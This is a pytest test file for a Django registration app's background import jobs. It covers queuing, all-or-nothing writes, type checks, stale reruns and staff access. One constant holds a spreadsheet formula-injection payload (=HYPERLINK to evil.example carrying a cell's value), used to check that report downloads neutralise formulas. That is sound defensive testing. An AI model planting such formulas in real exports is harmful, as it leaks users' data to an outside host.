"""Large imports run in the worker (issue 13.6): the upload page only stores the file and
queues an ImportJob; the task imports it all or nothing and records the outcome; the job page
follows it, offers the report, and runs a failed or stale job again."""

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from outbox.models import Job
from registrations import services
from registrations.models import Entrepreneur, ImportJob
from registrations.tests.admin_fixtures import admin_url
from registrations.tests.test_import import csv_file, row
from registrations.tests.test_import_all_or_nothing import PNG, xlsx_bytes

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&C2,"Klik")'


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def upload(client, content: bytes, name: str = "legacy.csv", content_type: str = "text/csv", **extra):
    return client.post(
        admin_url("registrations_entrepreneur_import"),
        {"file": SimpleUploadedFile(name, content, content_type=content_type), **extra},
    )


def queued_and_run(client, capture, content: bytes, name: str = "legacy.csv", **extra):
    """Upload as the signed-in user; the job runs in-process once the request commits (eager
    Celery, as `make run`)."""
    with capture(execute=True):
        response = upload(client, content, name, **extra)
    assert response.status_code == 302, response.content[:2000]
    job = ImportJob.objects.get()
    assert response["Location"] == admin_url("registrations_importjob_change", job.pk)
    job.refresh_from_db()
    return job


def test_the_upload_only_queues_a_job_through_the_outbox(client, dina, settings):
    client.force_login(dina)
    response = upload(client, csv_file([row(serial=1), row(serial=2)]).getvalue())
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert (job.status, job.created_by, job.filename, job.dry_run) == ("queued", dina, "legacy.csv", False)
    assert not Entrepreneur.objects.exists()  # the request wrote no people
    outbox = Job.objects.get()
    assert (outbox.task_name, outbox.args) == ("registrations.tasks.run_import_job", [job.pk, job.attempt])
    # Stored privately, under a random name, outside anything with a URL.
    assert job.file.name.startswith("imports/") and "legacy" not in job.file.name
    assert (settings.MEDIA_ROOT / "private" / job.file.name).is_file()
    with pytest.raises(ValueError):
        job.file.url  # noqa: B018 - private files have no URL
    assert client.get(f"/media/private/{job.file.name}").status_code == 404


def test_the_worker_imports_the_file_and_the_page_says_it_was_saved(english, dina, django_capture_on_commit_callbacks):
    english.force_login(dina)
    job = queued_and_run(
        english, django_capture_on_commit_callbacks, csv_file([row(serial=n) for n in (1, 2, 3)]).getvalue()
    )
    assert (job.status, job.rows_checked, job.rows_created, job.rows_written, job.lines_refused) == ("done", 3, 3, 3, 0)
    assert Entrepreneur.objects.count() == 3
    assert job.started_at and job.finished_at
    page = english.get(admin_url("registrations_importjob_change", job.pk))
    assert page.status_code == 200
    assert "Saved: every row of the file was written" in page.content.decode()
    assert b'http-equiv="refresh"' not in page.content


def test_a_file_with_a_nul_byte_writes_nothing_in_the_dry_run_and_in_the_real_run(
    english, dina, django_capture_on_commit_callbacks
):
    lines = csv_file([row(serial=n) for n in (1, 2, 3)]).getvalue().split(b"\r\n")
    lines[2] = lines[2].replace(b"Dewi", b"De\x00wi")
    content = b"\r\n".join(lines)
    english.force_login(dina)
    dry = queued_and_run(english, django_capture_on_commit_callbacks, content, dry_run="on")
    assert (dry.status, dry.dry_run, dry.rows_written, dry.lines_refused) == ("done", True, 0, 1)
    assert dry.errors[0][:3] == [3, dry.errors[0][1], "full_name"] and "\x00" not in str(dry.errors)
    with django_capture_on_commit_callbacks(execute=True):
        response = english.post(admin_url("registrations_importjob_run", dry.pk), {"dry_run": "0"})
    assert response.status_code == 302
    real = ImportJob.objects.get()
    assert (real.status, real.dry_run, real.attempt, real.rows_written) == ("done", False, 2, 0)
    assert real.errors == dry.errors  # the dry run's verdict was the real run's
    assert not Entrepreneur.objects.exists()
    page = english.get(admin_url("registrations_importjob_change", real.pk)).content.decode()
    assert "Nothing was saved" in page and "full_name" in page
    nik = row(serial=2)["nik"]
    assert nik not in page and f"{nik[:4]}********{nik[-4:]}" in page  # masked, as on every admin page


def test_a_bad_byte_in_the_last_batch_of_a_big_upload_writes_nothing(english, dina, django_capture_on_commit_callbacks):
    from registrations.tests.test_import_all_or_nothing import BAD_ROW, big_file

    content = big_file(damage=lambda line: line.replace(b"Dewi", b"D\xffwi")).getvalue()
    english.force_login(dina)
    job = queued_and_run(english, django_capture_on_commit_callbacks, content)
    assert (job.status, job.rows_checked, job.rows_written) == ("done", 2600, 0)
    assert [error[0] for error in job.errors] == [BAD_ROW + 1]
    assert not Entrepreneur.objects.exists()
    assert cache.get(f"import-job:{job.pk}:progress")["rows"] == 2600  # reported every batch


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (xlsx_bytes([row()]), "legacy.csv", "XLSX"),  # a workbook named .csv
        (PNG, "legacy.xlsx", "PNG"),  # an image named .xlsx
        (b"", "legacy.csv", "empty"),
        (b"%PDF-1.4", "legacy.pdf", ".csv or .xlsx"),
    ],
)
def test_a_file_that_lies_about_its_type_is_refused_on_the_upload_page(english, dina, content, name, words):
    english.force_login(dina)
    response = upload(english, content, name, content_type="text/csv")
    assert response.status_code == 200
    assert words in response.content.decode()
    assert not ImportJob.objects.exists() and not Job.objects.exists()


def test_half_a_workbook_fails_with_a_clear_message_and_writes_nothing(
    english, dina, django_capture_on_commit_callbacks
):
    english.force_login(dina)
    content = xlsx_bytes([row(serial=n) for n in range(1, 30)])[:-300]
    job = queued_and_run(english, django_capture_on_commit_callbacks, content, "legacy.xlsx")
    assert job.status == "failed" and "XLSX" in job.message
    assert not Entrepreneur.objects.exists()
    page = english.get(admin_url("registrations_importjob_change", job.pk)).content.decode()
    assert "Not imported" in page and "Nothing was written" in page


def test_a_header_only_file_fails_with_a_clear_message(english, dina, django_capture_on_commit_callbacks):
    english.force_login(dina)
    job = queued_and_run(english, django_capture_on_commit_callbacks, csv_file([]).getvalue())
    assert job.status == "failed" and "no rows" in job.message


def test_the_report_downloads_neutralise_formulas(english, dina, django_capture_on_commit_callbacks):
    english.force_login(dina)
    content = csv_file([row(serial=1), row(serial=2, sector=LINK)]).getvalue()
    job = queued_and_run(english, django_capture_on_commit_callbacks, content)
    assert job.lines_refused == 1
    report = english.get(admin_url("registrations_importjob_report", job.pk, "csv"))
    lines = list(csv.reader(io.StringIO(report.content.decode())))
    assert lines[0] == ["line", "nik", "field", "error", "code"]
    assert lines[1][0] == "3" and lines[1][3].lower().startswith("'=hyperlink")  # the value, echoed inert
    xlsx = english.get(admin_url("registrations_importjob_report", job.pk, "xlsx"))
    cell = load_workbook(io.BytesIO(xlsx.content)).active.cell(row=2, column=4)
    assert cell.data_type == "s" and cell.value.lower().startswith("=hyperlink") and cell.quotePrefix


def test_a_running_job_shows_its_progress_and_refreshes(english, dina):
    job = ImportJob.objects.create(
        filename="big.xlsx", created_by=dina, status="running", started_at=timezone.now(), file="imports/x.xlsx"
    )
    cache.set(f"import-job:{job.pk}:progress", {"rows": 12345, "at": timezone.now().timestamp(), "attempt": 1})
    english.force_login(dina)
    page = english.get(admin_url("registrations_importjob_change", job.pk)).content.decode()
    assert "12345" in page and 'http-equiv="refresh"' in page and "Running" in page
    assert "Import this file" not in page  # no second run while it runs


def test_a_killed_worker_leaves_a_stale_job_nothing_written_and_it_runs_again_once(
    english, dina, monkeypatch, django_capture_on_commit_callbacks
):
    english.force_login(dina)
    with django_capture_on_commit_callbacks(execute=False):
        upload(english, csv_file([row(serial=n) for n in range(1, 6)]).getvalue())
    job = ImportJob.objects.get()

    def killed(**kwargs):
        raise SystemExit("SIGKILL")  # not an Exception: nothing in the run may catch it

    monkeypatch.setattr(services, "entrepreneurs_import_batch", killed)
    with pytest.raises(SystemExit):
        services.import_job_run(job_id=job.pk, attempt=job.attempt)
    monkeypatch.undo()
    job.refresh_from_db()
    assert job.status == "running" and not Entrepreneur.objects.exists()
    assert not services.import_job_is_stale(job)  # it has just started
    ImportJob.objects.filter(pk=job.pk).update(started_at=timezone.now() - dt.timedelta(hours=1))
    cache.delete(f"import-job:{job.pk}:progress")
    page = english.get(admin_url("registrations_importjob_change", job.pk)).content.decode()
    assert "Stale" in page and "Nothing was written" in page and "Import this file" in page

    # The outbox's late delivery of the first message runs nothing: that attempt is over.
    assert services.import_job_run(job_id=job.pk, attempt=job.attempt) == "skipped"
    with django_capture_on_commit_callbacks(execute=True):
        english.post(admin_url("registrations_importjob_run", job.pk), {"dry_run": "0"})
    job.refresh_from_db()
    assert (job.status, job.rows_written) == ("done", 5)
    assert Entrepreneur.objects.count() == 5
    assert services.import_job_run(job_id=job.pk, attempt=job.attempt) == "skipped"  # delivered twice: runs once

    # The same file again (re-run of a done job): idempotent, nobody twice.
    with django_capture_on_commit_callbacks(execute=True):
        english.post(admin_url("registrations_importjob_run", job.pk), {"dry_run": "0"})
    job.refresh_from_db()
    assert (job.status, job.rows_created, job.rows_unchanged, job.rows_written) == ("done", 0, 5, 0)
    assert Entrepreneur.objects.count() == 5


def test_a_queued_or_running_job_is_not_queued_twice(english, dina):
    job = ImportJob.objects.create(filename="a.csv", created_by=dina, file="imports/a.csv")
    english.force_login(dina)
    response = english.post(admin_url("registrations_importjob_run", job.pk), {"dry_run": "0"}, follow=True)
    assert "still queued or running" in response.content.decode()
    assert ImportJob.objects.get().attempt == 1 and not Job.objects.exists()


def test_centre_staff_see_only_their_own_jobs_and_the_dinas_sees_all(client, alice, bob, dina):
    permission = Permission.objects.get(codename="import_entrepreneur")
    alice.user_permissions.add(permission)
    own = ImportJob.objects.create(filename="gambir.csv", created_by=alice, file="imports/g.csv", status="failed")
    other = ImportJob.objects.create(filename="dinas.csv", created_by=dina, file="imports/d.csv", status="failed")
    client.force_login(alice)
    listing = client.get(admin_url("registrations_importjob_changelist"))
    assert [job.pk for job in listing.context["cl"].result_list] == [own.pk]
    assert client.get(admin_url("registrations_importjob_change", own.pk)).status_code == 200
    for name, args in (
        ("registrations_importjob_change", (other.pk,)),
        ("registrations_importjob_report", (other.pk, "csv")),
    ):
        assert client.get(admin_url(name, *args)).status_code == 404
    assert client.post(admin_url("registrations_importjob_run", other.pk), {"dry_run": "0"}).status_code == 404
    assert ImportJob.objects.get(pk=other.pk).attempt == 1

    client.force_login(bob)  # centre staff who may not import: no jobs at all
    assert client.get(admin_url("registrations_importjob_changelist")).status_code == 403
    assert client.get(admin_url("registrations_importjob_change", own.pk)).status_code == 403
    assert client.post(admin_url("registrations_importjob_run", own.pk), {"dry_run": "0"}).status_code == 403

    client.force_login(dina)
    listing = client.get(admin_url("registrations_importjob_changelist"))
    assert {job.pk for job in listing.context["cl"].result_list} == {own.pk, other.pk}


def test_a_centre_staff_import_refuses_rows_outside_her_kecamatan(client, alice, django_capture_on_commit_callbacks):
    alice.user_permissions.add(Permission.objects.get(codename="import_entrepreneur"))
    client.force_login(alice)
    content = csv_file([row(serial=1), row(serial=2, kelurahan_code="31.71.06.1001")]).getvalue()
    job = queued_and_run(client, django_capture_on_commit_callbacks, content)
    assert (job.lines_refused, job.rows_written, job.errors[0][2]) == (1, 0, "kelurahan_code")
    assert not Entrepreneur.objects.exists()


def test_the_job_pages_use_a_fixed_number_of_queries(client, dina, django_assert_max_num_queries):
    for n in range(30):
        ImportJob.objects.create(
            filename=f"f{n}.csv", created_by=dina, file=f"imports/{n}.csv", errors=[[2, "", "nik", "x", "c"]] * 50
        )
    client.force_login(dina)
    with django_assert_max_num_queries(12):
        assert client.get(admin_url("registrations_importjob_changelist")).status_code == 200
    with django_assert_max_num_queries(10):
        assert client.get(admin_url("registrations_importjob_change", ImportJob.objects.first().pk)).status_code == 200
    with django_assert_max_num_queries(12):
        assert client.get(admin_url("registrations_entrepreneur_import")).status_code == 200


@pytest.mark.parametrize("people", [5, 60])
def test_the_task_uses_a_number_of_queries_that_does_not_grow_with_the_rows(
    dina, settings, tmp_path, people, django_assert_max_num_queries
):
    from django.core.files.base import ContentFile

    job = ImportJob(filename="legacy.csv", created_by=dina)
    job.file.save("legacy.csv", ContentFile(csv_file([row(serial=n) for n in range(1, people + 1)]).getvalue()))
    with django_assert_max_num_queries(45):  # one batch: claim, lookups, bulk inserts and history, the outcome
        assert services.import_job_run(job_id=job.pk, attempt=job.attempt) == "done"
    assert Entrepreneur.objects.count() == people
